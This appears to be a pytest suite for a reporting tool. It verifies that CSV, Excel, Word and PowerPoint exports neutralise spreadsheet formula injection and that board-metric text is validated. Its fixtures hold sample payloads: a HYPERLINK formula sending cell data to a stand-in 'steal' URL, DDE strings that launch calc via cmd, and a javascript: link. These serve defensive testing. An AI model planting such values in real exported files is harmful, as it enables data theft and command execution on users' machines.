"""Text from people and files is data in every file the product writes: CSV downloads, the CLI's
--format csv, the Excel template, and the Excel, Word and PowerPoint packs. Each file is written
with hostile text in it (a metric, an area, a priority area, commentary), read back with a reader
library, and every cell that could run as a formula is shown to carry its apostrophe. Numbers stay
numbers. Board metric words are checked when they are defined."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date

import openpyxl
import pytest
from docx import Document
from pptx import Presentation

from scorecard import card, cli, commentary, ingest, periods, priorities, register, store, template
from scorecard.areas import AreaIndex
from scorecard.board_metrics import add_board_metric, load_board_text
from scorecard.importers import SourceFile
from scorecard.register import Metric, RegisterError, metrics_from_store
from scorecard.reports import build_pack, render
from scorecard.text_safety import FORMULA_START, neutralise_cell
from scorecard.ui import admin, widgets

from scorecard import access  # noqa: E402

ADMIN = access.command_line("test")

PLYMOUTH = "E06000026"
TERM = "Autumn 2026/27"
METRIC_NAME = '=HYPERLINK("https://example.invalid/steal?d="&A1,"Supported internships")'
METRIC_DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"
AREA_NAME = "-2+3+cmd|' /C calc'!A0"
PRIORITY = "+Assessment timeliness"
COMMENT = "=1+1 more staff from April"
AUTHOR = "@Head of SEND"
BOARD_ID = "supported_internships"


def _legacy_board_metric(con) -> Metric:
    """A board metric stored before its words were checked (register.insert_metric does not check)."""
    metric = Metric(BOARD_ID, METRIC_NAME, "count", "higher", 0, description=METRIC_DESCRIPTION, origin="board",
                    cadence="Termly local return (board-defined)")
    with store.transaction(con):
        register.insert_metric(con, metric, 999)
    return metric


@pytest.fixture(scope="module")
def hostile_db(seeded_template, tmp_path_factory):
    """The seeded store with hostile text everywhere a user or a file can put it."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    shutil.copy(seeded_template, path)
    con = store.connect(str(path))
    _legacy_board_metric(con)
    rows = "".join(f"{PLYMOUTH},{BOARD_ID},{term},{n}\n"
                   for term, n in (("Autumn 2025/26", 4), ("Spring 2025/26", 6), ("Summer 2025/26", 9)))
    ingest.import_source(con, SourceFile("return.csv", f"area,metric,period,value\n{rows}".encode()), actor=ADMIN)
    priorities.save(con, PLYMOUTH, [priorities.Priority(1, PRIORITY, ["ehcp_20wk_pct", BOARD_ID])],
                    set(metrics_from_store(con)), actor=ADMIN)
    commentary.add(con, PLYMOUTH, BOARD_ID, TERM, COMMENT, actor=access.command_line(AUTHOR))
    commentary.add(con, PLYMOUTH, "ehcp_20wk_pct", TERM, "-5 points since spring", actor=access.command_line(AUTHOR))
    con.execute("UPDATE area SET name = ? WHERE code = ?", [AREA_NAME, PLYMOUTH])
    con.close()
    return path


@pytest.fixture(scope="module")
def hostile(hostile_db):
    con = store.connect(str(hostile_db), read_only=True)
    yield con
    con.close()


def _inert(text) -> bool:
    """Text a spreadsheet cannot run: not starting like a formula, or only a number."""
    return not isinstance(text, str) or neutralise_cell(text) == text


# --- CSV ----------------------------------------------------------------------------------------

def test_csv_downloads_neutralise_text_and_keep_numbers(hostile):
    frame = card.build(hostile, PLYMOUTH, periods.parse(TERM)).frame()
    rows = list(csv.DictReader(io.StringIO(widgets.csv_bytes(frame).decode("utf-8"))))
    by_metric = {r["metric"]: r for r in rows}
    assert by_metric[BOARD_ID]["metric_name"] == "'" + METRIC_NAME
    assert by_metric[BOARD_ID]["commentary"] == "'" + COMMENT
    assert by_metric[BOARD_ID]["commentary_author"] == "'" + AUTHOR
    assert by_metric[BOARD_ID]["group"] == f"1. {PRIORITY}"
    change = by_metric["ehcp_20wk_pct"]["change"]
    assert float(change) < 0 and not change.startswith("'")  # a negative number stays a number
    assert all(_inert(v) for r in rows for v in r.values())
    register_csv = widgets.csv_bytes(admin.register_table(metrics_from_store(hostile))).decode("utf-8")
    names = {r["id"]: r for r in csv.DictReader(io.StringIO(register_csv))}
    assert names[BOARD_ID]["name"] == "'" + METRIC_NAME
    assert names[BOARD_ID]["description"] == "'" + METRIC_DESCRIPTION


def _own_copy(hostile_db, tmp_path) -> str:
    """A copy to open for writing (the module's read-only connection holds the original)."""
    path = tmp_path / "copy.duckdb"
    shutil.copy(hostile_db, path)
    return str(path)


def test_the_cli_csv_output_neutralises_text_and_keeps_numbers(hostile_db, tmp_path, capsys):
    hostile_db = _own_copy(hostile_db, tmp_path)
    assert cli.main(["--db", str(hostile_db), "metrics", "--format", "csv"]) == 0
    metrics = {r["id"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert metrics[BOARD_ID]["name"] == "'" + METRIC_NAME
    assert cli.main(["--db", str(hostile_db), "card", "--area", PLYMOUTH, "--term", TERM, "--format", "csv"]) == 0
    card_rows = {r["metric"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert card_rows[BOARD_ID]["commentary"] == "'" + COMMENT
    assert card_rows["ehcp_20wk_pct"]["commentary"] == "'-5 points since spring"
    change = card_rows["ehcp_20wk_pct"]["change"]
    assert float(change) < 0 and not change.startswith("'")  # a negative number stays a number
    assert cli.main(["--db", str(hostile_db), "areas", "--format", "csv"]) == 0
    areas = {r["code"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert areas[PLYMOUTH]["name"] == "'" + AREA_NAME


# --- The local-return template ------------------------------------------------------------------

def test_the_template_writes_names_as_text_never_formulas(hostile):
    metrics = metrics_from_store(hostile)
    area = AreaIndex.from_store(hostile).get(PLYMOUTH)
    data = template.build_template([metrics[BOARD_ID], metrics["perm_staff_pct"]], area,
                                   [periods.parse("Spring 2025/26")])
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert _inert(cell.value), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
    ret, definitions = wb["Return"], wb["Definitions"]
    assert ret["B3"].value == "'" + AREA_NAME
    assert ret["A7"].value == "'" + METRIC_NAME and ret["C7"].value == BOARD_ID
    assert (definitions["B2"].value, definitions["C2"].value) == ("'" + METRIC_NAME, "'" + METRIC_DESCRIPTION)


def test_the_template_still_reads_back(hostile_db, tmp_path):
    con = store.connect(_own_copy(hostile_db, tmp_path))
    try:
        metrics = metrics_from_store(con)
        area = AreaIndex.from_store(con).get(PLYMOUTH)
        data = template.build_template([metrics[BOARD_ID]], area, [periods.term_for_date(date.today())])
        wb = openpyxl.load_workbook(io.BytesIO(data))
        wb["Return"]["D7"] = 11
        out = io.BytesIO()
        wb.save(out)
        plan = admin.read_upload(con, "return.xlsx", out.getvalue(), ADMIN)
        assert plan.values[["metric_id", "value"]].values.tolist() == [[BOARD_ID, 11.0]]
    finally:
        con.close()


# --- The packs ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def packs(hostile):
    pack = build_pack(hostile, PLYMOUTH, TERM)
    return {fmt: render(pack, fmt)[0] for fmt in ("xlsx", "docx", "pptx")}


def test_the_excel_pack_holds_values_only_and_neutralised_text(packs):
    wb = openpyxl.load_workbook(io.BytesIO(packs["xlsx"]))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert _inert(cell.value), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                texts.append(cell.value)
    assert {"'" + METRIC_NAME, "'" + COMMENT, "'" + AUTHOR} <= set(texts)
    header = [c.value for c in wb["Values"][1]]
    values = {r[0]: dict(zip(header, r)) for r in wb["Values"].iter_rows(min_row=2, values_only=True)}
    change = values["ehcp_20wk_pct"]["change"]
    assert isinstance(change, float) and change < 0  # change: a number


def _docx_texts(doc) -> list[str]:
    texts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        texts += [cell.text for row in table.rows for cell in row.cells]
    return texts


def test_the_word_pack_neutralises_text_that_starts_a_paragraph_or_cell(packs):
    texts = _docx_texts(Document(io.BytesIO(packs["docx"])))
    assert [t for t in texts if not _inert(t)] == []
    assert "'" + METRIC_NAME in texts  # the measure's heading and its table cell
    assert any(t.startswith("'" + AREA_NAME) for t in texts)


def test_the_powerpoint_pack_and_its_chart_workbooks_hold_no_formula(packs):
    deck = Presentation(io.BytesIO(packs["pptx"]))
    texts, charts = [], 0
    for slide in deck.slides:
        for shape in slide.shapes:
            if shape.has_text_frame:
                texts += [p.text.removeprefix("• ") for p in shape.text_frame.paragraphs]
            if shape.has_table:
                texts += [c.text for row in shape.table.rows for c in row.cells]
            if shape.has_chart:
                charts += 1
                # A chart's data is an embedded workbook: its series names are cells like any other.
                book = openpyxl.load_workbook(io.BytesIO(shape.chart.part.chart_workbook.xlsx_part.blob))
                for row in book.active.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", f"chart data {cell.coordinate} is a formula: {cell.value!r}"
                        assert _inert(cell.value)
                assert [s.name for s in shape.chart.plots[0].series][0] == "'" + AREA_NAME
    assert charts and [t for t in texts if not _inert(t)] == []
    assert f"1. {PRIORITY}" in texts and "'" + METRIC_NAME in texts


# --- Board metric words are checked when they are defined -------------------------------------

@pytest.mark.parametrize("field, value, message", [
    ("name", METRIC_NAME, "name may not start with '=': a spreadsheet would treat it as a formula"),
    ("name", "Internships\x1b[31m", "name contains a control character (U+001B)"),
    ("name", "Internships [more](https://example.invalid)", "name may not contain a link or markup"),
    ("short_name", "+Internships", "short name may not start with '+'"),
    ("description", "See <img src=https://example.invalid/x.png>", "description may not contain a link or markup"),
    ("description", "Counted from https://example.invalid", "description may not contain a link or markup"),
    ("unit", "=1", "unit '=1' must be one of"),
])
def test_board_metric_words_are_checked_when_added(con, field, value, message):
    definition = {"id": "board_internships", "name": "Supported internships", "unit": "count",
                  "polarity": "higher", field: value}
    before = con.execute("SELECT count(*) FROM metric").fetchone()[0]
    with pytest.raises(RegisterError) as exc:
        add_board_metric(con, definition, actor=ADMIN)
    assert str(exc.value).startswith("board metric: metric board_internships: ") and message in str(exc.value)
    assert con.execute("SELECT count(*) FROM metric").fetchone()[0] == before


def test_a_board_register_file_with_one_bad_definition_adds_none(con):
    text = ('[[metric]]\nid = "board_good"\nname = "Good measure"\nunit = "count"\npolarity = "higher"\n\n'
            '[[metric]]\nid = "board_bad"\nname = "Bad"\nunit = "count"\npolarity = "higher"\n'
            'description = "[click](javascript:alert(1))"\n')
    with pytest.raises(RegisterError) as exc:
        load_board_text(con, text, where="board.toml", actor=ADMIN)
    assert "board.toml: metric board_bad: description may not contain a link or markup" in str(exc.value)
    assert con.execute("SELECT count(*) FROM metric WHERE id LIKE 'board_%'").fetchone()[0] == 0


def test_ordinary_board_metric_words_are_accepted(con):
    metric = add_board_metric(con, {"id": "board_internships", "name": "Supported internships: outcomes (%)",
                                    "short_name": "Internships", "unit": "%", "polarity": "higher",
                                    "description": "Young people aged 16-25 on a supported internship.\n"
                                                   "Counted at the end of each term; 1 in 5 is the aim."}, actor=ADMIN)
    assert metric.name == "Supported internships: outcomes (%)"


def test_a_priority_title_has_a_length_limit(con):
    with pytest.raises(priorities.PriorityError) as exc:
        priorities.save(con, PLYMOUTH, [priorities.Priority(1, "t" * 201, [])], set(), actor=ADMIN)
    assert str(exc.value) == "the title of priority area 1 is 201 characters long; keep it to 200 or fewer"


def test_formula_starts_cover_owasps_list():
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(FORMULA_START)
